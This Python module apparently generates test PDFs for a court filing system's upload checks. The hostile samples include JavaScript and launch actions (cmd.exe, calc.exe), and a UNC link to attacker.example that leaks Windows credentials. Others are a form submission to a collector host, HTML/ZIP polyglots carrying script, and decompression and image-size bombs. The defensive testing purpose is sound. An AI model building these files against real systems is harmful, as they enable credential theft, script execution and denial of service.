"""PDFs, good and bad, that the filing tests make for themselves (with pikepdf)."""

from __future__ import annotations

import io
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

A4 = (595, 842)


def _save(pdf: pikepdf.Pdf, **kwargs) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **kwargs)
    return out.getvalue()


def _page_with_text(pdf: pikepdf.Pdf, text: str, size=A4) -> pikepdf.Page:
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    content = f"BT /F1 24 Tf 72 {size[1] - 120} Td ({text}) Tj ET".encode()
    page = pikepdf.Page(
        Dictionary(
            Type=Name.Page,
            MediaBox=Array([0, 0, *size]),
            Resources=Dictionary(Font=Dictionary(F1=font)),
            Contents=pdf.make_stream(content),
        )
    )
    pdf.pages.append(page)
    return pdf.pages[-1]


def good_pdf(pages: int = 1, *, rotate: int = 0, **save_kwargs) -> bytes:
    pdf = pikepdf.Pdf.new()
    for number in range(1, pages + 1):
        _page_with_text(pdf, f"Page {number} of the statement of claim")
    if rotate:
        pdf.pages[0].Rotate = rotate
    return _save(pdf, **save_kwargs)


def cjk_pdf() -> bytes:
    """A real-world CJK PDF: WeasyPrint with the Noto CJK font embedded."""
    import weasyprint

    html = (
        '<html lang="zh-Hant-HK"><body style="font-family: \'Noto Sans CJK HK\'">'
        "申索陳述書 Statement of Claim</body></html>"
    )
    return weasyprint.HTML(string=html).write_pdf()


def big_pdf(target_bytes: int) -> bytes:
    """A PDF of about ``target_bytes``: pages carrying incompressible image data, like scans."""
    import os

    pdf = pikepdf.Pdf.new()
    side = 400
    per_page = side * side
    for _ in range(max(1, target_bytes // per_page)):
        image = pikepdf.Stream(pdf, os.urandom(per_page))
        image.Type = Name.XObject
        image.Subtype = Name.Image
        image.Width = side
        image.Height = side
        image.ColorSpace = Name.DeviceGray
        image.BitsPerComponent = 8
        pdf.pages.append(
            pikepdf.Page(
                Dictionary(
                    Type=Name.Page,
                    MediaBox=Array([0, 0, *A4]),
                    Resources=Dictionary(XObject=Dictionary(Im0=pdf.make_indirect(image))),
                    Contents=pdf.make_stream(b"q 400 0 0 400 100 300 cm /Im0 Do Q"),
                )
            )
        )
    return _save(pdf, compress_streams=False)


def encrypted_pdf() -> bytes:
    return _pdf_from(good_pdf(), encryption=pikepdf.Encryption(owner="owner-secret", user="user-secret"))


def restricted_pdf() -> bytes:
    """Opens without a password, but has an owner password restricting printing."""
    return _pdf_from(
        good_pdf(),
        encryption=pikepdf.Encryption(owner="owner-secret", user="", allow=pikepdf.Permissions(print_highres=False)),
    )


def _pdf_from(data: bytes, **save_kwargs) -> bytes:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return _save(pdf, **save_kwargs)


def _edit(edit, **save_kwargs) -> bytes:
    with pikepdf.open(io.BytesIO(good_pdf(2))) as pdf:
        edit(pdf)
        return _save(pdf, **save_kwargs)


def open_action_javascript_pdf() -> bytes:
    return _edit(lambda pdf: setattr(pdf.Root, "OpenAction", Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))))


def names_tree_javascript_pdf() -> bytes:
    def edit(pdf):
        action = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)")))
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), action])))

    return _edit(edit)


def page_additional_action_javascript_pdf() -> bytes:
    """JavaScript on a page's "open" additional action, chained through /Next, in an object stream."""

    def edit(pdf):
        script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("this.print()")))
        pdf.pages[1].AA = Dictionary(O=Dictionary(S=Name.URI, URI=String("https://example.com"), Next=script))

    return _edit(edit, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def launch_action_pdf() -> bytes:
    return _edit(
        lambda pdf: setattr(
            pdf.Root, "OpenAction", Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))
        )
    )


def embedded_file_pdf() -> bytes:
    def edit(pdf):
        pdf.attachments["evidence.docx"] = pikepdf.AttachedFileSpec(pdf, b"PK\x03\x04 not really a docx")

    return _edit(edit)


def file_attachment_annotation_pdf() -> bytes:
    def edit(pdf):
        annotation = Dictionary(
            Type=Name.Annot,
            Subtype=Name.FileAttachment,
            Rect=Array([10, 10, 30, 30]),
            FS=Dictionary(Type=Name.Filespec, F=String("note.txt")),
        )
        pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))

    return _edit(edit)


def no_pages_pdf() -> bytes:
    return _save(pikepdf.Pdf.new())


def truncated_pdf() -> bytes:
    data = good_pdf(3)
    return data[: len(data) // 2]


def not_a_pdf() -> bytes:
    """A Word document (a ZIP) that someone renamed to .pdf."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def html_polyglot() -> bytes:
    return b"<html><script>alert(document.cookie)</script></html>\n" + good_pdf()


def zip_header_polyglot() -> bytes:
    return b"PK\x03\x04" + b"\x00" * 26 + good_pdf()


def jpeg_header_polyglot() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + good_pdf()


def appended_zip_polyglot() -> bytes:
    """A valid PDF that is also a valid ZIP: the archive follows the PDF's %%EOF."""
    return good_pdf() + not_a_pdf()


def zip_with_trailing_comment_polyglot() -> bytes:
    """A PDF and then a ZIP whose end record has a comment that ends in %%EOF."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
        archive.comment = b"\n%%EOF\n"
    return good_pdf() + out.getvalue()


def appended_html_polyglot() -> bytes:
    return good_pdf() + b"\n<!DOCTYPE html><html><script>alert(1)</script></html>\n"


# --- Active content (filing/pdf_checks/active_content.py) -------------------------------


def _annotate(pdf: pikepdf.Pdf, annotation: Dictionary, page: int = 0) -> None:
    annotation.Type = Name.Annot
    if "/Rect" not in annotation:
        annotation.Rect = Array([72, 72, 200, 90])
    pdf.pages[page].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))


def _link(action: Dictionary, **save_kwargs) -> bytes:
    """A link annotation on page 1 that performs ``action`` when clicked."""
    link = Dictionary(Subtype=Name.Link, Border=Array([0, 0, 0]), A=action)
    return _edit(lambda pdf: _annotate(pdf, link), **save_kwargs)


def uri_link_pdf(uri: str | bytes) -> bytes:
    return _link(Dictionary(S=Name.URI, URI=String(uri)))


def xfa_form_pdf() -> bytes:
    """An XFA form whose template carries a script, as made by Adobe LiveCycle Designer."""
    template = (
        b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        b"xfa.host.messageBox('hi')</script></event></subform></template>"
    )

    def edit(pdf):
        pdf.Root.AcroForm = Dictionary(
            Fields=Array([]),
            XFA=Array([String("template"), pdf.make_stream(template)]),
        )
        pdf.Root.NeedsRendering = True

    return _edit(edit)


def annotation_action_javascript_pdf() -> bytes:
    return _link(Dictionary(S=Name.JavaScript, JS=String("app.launchURL('https://example.com')")))


def annotation_additional_action_javascript_pdf() -> bytes:
    """JavaScript when the pointer enters a link (/AA /E), with no /A at all."""
    return _edit(
        lambda pdf: _annotate(
            pdf, Dictionary(Subtype=Name.Link, AA=Dictionary(E=Dictionary(S=Name.JavaScript, JS=String("1"))))
        )
    )


def form_field_javascript_pdf() -> bytes:
    """A text field whose keystroke action (/AA /K) runs a script, in a field's kid widget."""

    def edit(pdf):
        widget = pdf.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=Array([72, 700, 300, 720]), P=pdf.pages[0].obj)
        )
        field = pdf.make_indirect(
            Dictionary(
                FT=Name.Tx,
                T=String("amount"),
                Kids=Array([widget]),
                AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("AFNumber_Keystroke(2)"))),
            )
        )
        widget.Parent = field
        pdf.pages[0].Annots = Array([widget])
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]))

    return _edit(edit)


def javascript_uri_pdf() -> bytes:
    return uri_link_pdf("java\tscript:app.alert(1)")


def gotor_unc_pdf() -> bytes:
    """A link that opens a PDF on a network share: Windows sends the user's credentials to the host."""
    return _link(Dictionary(S=Name.GoToR, F=String("\\\\attacker.example\\share\\bundle.pdf"), D=Array([0, Name.Fit])))


def gotoe_pdf() -> bytes:
    return _link(
        Dictionary(S=Name.GoToE, F=String("other.pdf"), T=Dictionary(R=Name.C, N=String("exhibit")), D=Array([0]))
    )


def thread_to_other_file_pdf() -> bytes:
    return _link(Dictionary(S=Name.Thread, F=String("other.pdf"), D=0))


def submit_form_pdf() -> bytes:
    """A button that posts the form's fields to a web address."""
    return _link(
        Dictionary(
            S=Name.SubmitForm,
            F=Dictionary(FS=Name.URL, F=String("https://collector.example/submit")),
            Flags=4,
        )
    )


def import_data_pdf() -> bytes:
    return _link(Dictionary(S=Name.ImportData, F=String("answers.fdf")))


def rich_media_annotation_pdf() -> bytes:
    return _edit(
        lambda pdf: _annotate(
            pdf,
            Dictionary(
                Subtype=Name.RichMedia,
                RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([]))),
                RichMediaSettings=Dictionary(),
            ),
        )
    )


def rich_media_execute_pdf() -> bytes:
    return _link(Dictionary(S=Name.RichMediaExecute, TA=Dictionary(), TI=Dictionary(), CMD=Dictionary()))


def hidden_launch_action_pdf() -> bytes:
    """A launch action reachable only from a private key of the document information, in an object stream."""

    def edit(pdf):
        action = pdf.make_indirect(Dictionary(S=Name.Launch, F=String("calc.exe")))
        pdf.trailer.Info = pdf.make_indirect(Dictionary(Producer=String("Word"), PrivateData=Array([action])))

    return _edit(edit, object_stream_mode=pikepdf.ObjectStreamMode.generate)


# --- Bombs and bounds (filing/pdf_checks/bounds.py) ---------------------------------------
# Bombs are saved without letting qpdf unpack and recompress their streams.

_RAW = {"stream_decode_level": pikepdf.StreamDecodeLevel.none, "compress_streams": False}


def _deflate(size: int, pattern: bytes = b"0 0 m\n") -> bytes:
    """zlib data that unpacks to about ``size`` bytes of ``pattern`` (about 1000 times smaller)."""
    compressor = zlib.compressobj(9)
    block = pattern * (1024 * 1024 // len(pattern))
    parts = [compressor.compress(block) for _ in range(size // len(block))]
    parts.append(compressor.compress(pattern * ((size % len(block)) // len(pattern))))
    parts.append(compressor.flush())
    return b"".join(parts)


def _raw_stream(pdf: pikepdf.Pdf, data: bytes, filters: list[str], **entries) -> pikepdf.Stream:
    stream = pikepdf.Stream(pdf, data)
    if filters:
        stream.Filter = Name(filters[0]) if len(filters) == 1 else Array([Name(f) for f in filters])
    for key, value in entries.items():
        stream[f"/{key}"] = value
    return pdf.make_indirect(stream)


def _with_page_contents(streams: list[tuple[bytes, list[str]]], pages: int | None = None) -> bytes:
    """A good PDF whose first pages draw the given (data, filters) content streams, one a page."""
    with pikepdf.open(io.BytesIO(good_pdf(pages or len(streams)))) as pdf:
        for index, (data, filters) in enumerate(streams):
            pdf.pages[index].Contents = _raw_stream(pdf, data, filters)
        return _save(pdf, **_RAW)


def flate_bomb_pdf(size: int = 200 * 1024 * 1024) -> bytes:
    """The file found in review: about 300 KB, page 1's content unpacking to 200 MB."""
    return _with_page_contents([(_deflate(size), ["/FlateDecode"])], pages=2)


def many_streams_pdf(count: int, size: int) -> bytes:
    """``count`` pages, each with a content stream that unpacks to ``size`` bytes (one zlib
    stream, compressed once and stored ``count`` times)."""
    data = _deflate(size)
    return _with_page_contents([(data, ["/FlateDecode"])] * count)


def nested_flate_bomb_pdf(size: int = 200 * 1024 * 1024) -> bytes:
    """Flate inside Flate: the 200 MB bomb compressed again, a file of a few kilobytes."""
    return _with_page_contents([(zlib.compress(_deflate(size), 9), ["/FlateDecode", "/FlateDecode"])], pages=1)


def ascii_hex_flate_bomb_pdf(size: int = 200 * 1024 * 1024) -> bytes:
    """A chain of a text filter and Flate ([/ASCIIHexDecode /FlateDecode])."""
    return _with_page_contents([(_deflate(size).hex().encode() + b">", ["/ASCIIHexDecode", "/FlateDecode"])], pages=1)


def lzw_encode_zeros(size: int) -> bytes:
    """LZW data (/EarlyChange 1) for ``size`` zero bytes, written code by code.

    After each clear code, code 0 stands for one zero and each later code is the entry
    being made (the "KwKwK" case) for one zero more than the last: LZW's best case, more
    than 1,000 times smaller than its output.
    """
    codes: list[tuple[int, int]] = []  # (code, width the decoder reads it with)
    width = 9
    left = size
    while left > 0:
        codes.append((256, width))  # clear
        width, table, run = 9, 258, 1
        codes.append((0, width))
        left -= 1
        while left >= run + 1 and table < 4000:
            run += 1
            codes.append((table, width))
            left -= run
            table += 1
            width = min(12, (table + 1).bit_length())
    codes.append((257, width))
    bits = count = 0
    for code, code_width in codes:
        bits = (bits << code_width) | code
        count += code_width
    padding = -count % 8
    return (bits << padding).to_bytes((count + padding) // 8, "big")


def lzw_bomb_pdf(size: int = 200 * 1024 * 1024) -> bytes:
    return _with_page_contents([(lzw_encode_zeros(size), ["/LZWDecode"])], pages=1)


def run_length_bomb_pdf(size: int = 200 * 1024 * 1024) -> bytes:
    """Run-length data: 2 bytes for every 128, so a 3 MB file unpacks to 200 MB."""
    return _with_page_contents([(b"\x81 " * (size // 128) + b"\x80", ["/RunLengthDecode"])], pages=1)


def _image_page(pdf: pikepdf.Pdf, image: pikepdf.Stream) -> None:
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=image))
    pdf.pages[0].Contents = pdf.make_stream(b"q 400 0 0 400 100 300 cm /Im0 Do Q")


def huge_image_pdf(width: int = 60_000, height: int = 60_000) -> bytes:
    """An image XObject declaring 3.6 gigapixels, its data a few bytes of CCITT fax."""
    with pikepdf.open(io.BytesIO(good_pdf(1))) as pdf:
        image = _raw_stream(
            pdf,
            b"\x00\x10\x01",
            ["/CCITTFaxDecode"],
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=width,
            Height=height,
            ImageMask=True,
            DecodeParms=Dictionary(K=-1, Columns=width, Rows=height),
        )
        _image_page(pdf, image)
        return _save(pdf, **_RAW)


def jpeg_header(width: int, height: int) -> bytes:
    """The start of a baseline JPEG (SOI, an APP0 segment, SOF0) of the given size, and EOI."""
    app0 = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof0 = b"\xff\xc0\x00\x0b\x08" + height.to_bytes(2, "big") + width.to_bytes(2, "big") + b"\x01\x01\x11\x00"
    return b"\xff\xd8" + app0 + sof0 + b"\xff\xd9"


def lying_jpeg_pdf(width: int = 60_000, height: int = 60_000) -> bytes:
    """An image declared as 100 x 100 whose JPEG data says 60,000 x 60,000: decoders believe the JPEG."""
    with pikepdf.open(io.BytesIO(good_pdf(1))) as pdf:
        image = _raw_stream(
            pdf,
            jpeg_header(width, height),
            ["/DCTDecode"],
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=100,
            Height=100,
            ColorSpace=Name.DeviceGray,
            BitsPerComponent=8,
        )
        _image_page(pdf, image)
        return _save(pdf, **_RAW)


def inline_image_pdf(width: int, height: int, data: bytes, filters: str = "/Fl") -> bytes:
    """Page 1 draws an inline image (BI ... ID ... EI) inside its own, uncompressed, content stream."""
    content = (
        b"q 200 0 0 200 100 400 cm BI /W %d /H %d /CS /G /BPC 1 /F %s ID " % (width, height, filters.encode())
        + data
        + b"\nEI Q\n"
    )
    return _with_page_contents([(content, [])], pages=1)


def too_many_pages_pdf(pages: int) -> bytes:
    """``pages`` pages sharing one content stream and one font: a few bytes a page."""
    pdf = pikepdf.Pdf.new()
    _page_with_text(pdf, "Page")
    first = pdf.pages[0].obj
    for _ in range(pages - 1):
        pdf.pages.append(
            pikepdf.Page(
                Dictionary(Type=Name.Page, MediaBox=first.MediaBox, Resources=first.Resources, Contents=first.Contents)
            )
        )
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def long_array_pdf(entries: int) -> bytes:
    """An array of ``entries`` numbers, hung from the catalogue."""
    return _edit(lambda pdf: setattr(pdf.Root, "PieceInfo", pdf.make_indirect(Array(list(range(entries))))))


def _hand_made(objects: dict[int, bytes], xref_stream: bytes, xref_dict: bytes) -> bytes:
    """A PDF whose cross-reference table is a stream (object ``max(objects) + 1``) of the given
    data and dictionary entries: what pikepdf would not write."""
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_number = max(objects) + 1
    offsets[xref_number] = len(out)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R " % (xref_number, xref_number + 1)
    out += xref_dict + b" /Length %d >>\nstream\n" % len(xref_stream) + xref_stream + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


_ONE_PAGE = {
    1: b"<< /Type /Catalog /Pages 2 0 R >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>",
}


def xref_stream_bomb_pdf(extra: int = 1024 * 1024 * 1024) -> bytes:
    """A cross-reference stream followed, in the same Flate data, by 1 GB of zeros: qpdf
    unpacks it whole when it opens the file, before any check can measure it."""
    compressor = zlib.compressobj(9)
    data = compressor.compress(b"\x00" * 7 * 5)  # stands in for the entries: the parser must repair
    block = b"\x00" * (1024 * 1024)
    data += b"".join(compressor.compress(block) for _ in range(extra // len(block)))
    data += compressor.flush()
    return _hand_made(_ONE_PAGE, data, b"/Filter /FlateDecode")


def lzw_xref_stream_pdf() -> bytes:
    """A cross-reference stream compressed with LZW, for which qpdf has no limit."""
    return _hand_made(_ONE_PAGE, lzw_encode_zeros(35), b"/Filter /LZWDecode")


def at_the_bounds_pdf(
    *, stream_bytes: int, total_bytes: int, image_pixels: int, pages: int, margin: int = 64 * 1024
) -> bytes:
    """A file just inside every bound: ``pages`` pages; page 1 and the next ones with a content
    stream unpacking to ``stream_bytes - margin`` each, as many as the total allows; and on
    page 1 a JPEG of just under ``image_pixels``."""
    each = stream_bytes - margin
    count = (total_bytes - margin) // each
    data = _deflate(each, pattern=b"0 0 m 1 1 l S\n")
    side = int(image_pixels**0.5)
    with pikepdf.open(io.BytesIO(too_many_pages_pdf(pages))) as pdf:
        for index in range(count):
            page = pdf.pages[index]
            page.Contents = Array([page.Contents, _raw_stream(pdf, data, ["/FlateDecode"])])
        image = _raw_stream(
            pdf,
            jpeg_header(side, side - 1),
            ["/DCTDecode"],
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=side,
            Height=side - 1,
            ColorSpace=Name.DeviceGray,
            BitsPerComponent=8,
        )
        pdf.pages[0].Resources = Dictionary(Font=pdf.pages[0].Resources.Font, XObject=Dictionary(Im0=image))
        return _save(pdf, **_RAW)
